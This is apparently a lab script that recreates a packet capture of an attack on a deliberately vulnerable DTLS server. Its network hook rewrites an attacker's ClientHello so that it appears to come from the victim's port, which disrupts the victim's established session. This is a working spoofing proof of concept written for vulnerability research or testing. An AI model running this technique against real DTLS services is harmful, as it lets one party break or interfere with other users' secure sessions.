#!/usr/bin/env python3
"""Makes the capture again: recipe.py [OUTPUT-FOLDER]. Needs root and the Debian packages
python3 iproute2 tcpdump openssl gcc libssl-dev
"""

import os
import struct
import sys
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'lab'))
from dtls_lab import CLIENT_HELLO, LAB_FOLDER, SERVER_PORT, Lab

VICTIM, ATTACKER, OTHER = 40001, 40666, 40002


def as_victim(datagram):
    """The same datagram as if it came from the victim's port."""
    frame = bytearray(datagram.frame)
    struct.pack_into('!H', frame, 14 + datagram.ip_length, VICTIM)
    datagram.frame = bytes(frame)
    return datagram.with_payload(datagram.payload)


with Lab() as lab:
    program = lab.compile(os.path.join(LAB_FOLDER, 'dtls_forgetful_server.c'), '-lssl', '-lcrypto')
    server = lab.on_server('server', [program, str(SERVER_PORT), *lab.certificate('ec')])
    server.wait_for('waiting for a client')
    sent = []

    def hook(datagram):
        """Of the attacker one ClientHello passes, with the address of the victim."""
        if datagram.source_port != ATTACKER:
            return True
        if not sent and datagram.has(message=CLIENT_HELLO):
            sent.append(datagram)
            lab.path.send(as_victim(datagram))
        return False
    lab.path.hook = hook
    victim, other = lab.openssl_client(VICTIM, '-nbio'), lab.openssl_client(OTHER)
    server.wait_for('handshake done', count=2)
    victim.type('first')
    other.type('first')
    time.sleep(0.5)
    lab.openssl_client(ATTACKER)
    time.sleep(1)
    for n in range(5):
        victim.type('again %d' % n)
        other.type('again %d' % n)
        time.sleep(0.8)
    other.end_of_input()
    other.wait_end()
    victim.kill()
    lab.save()
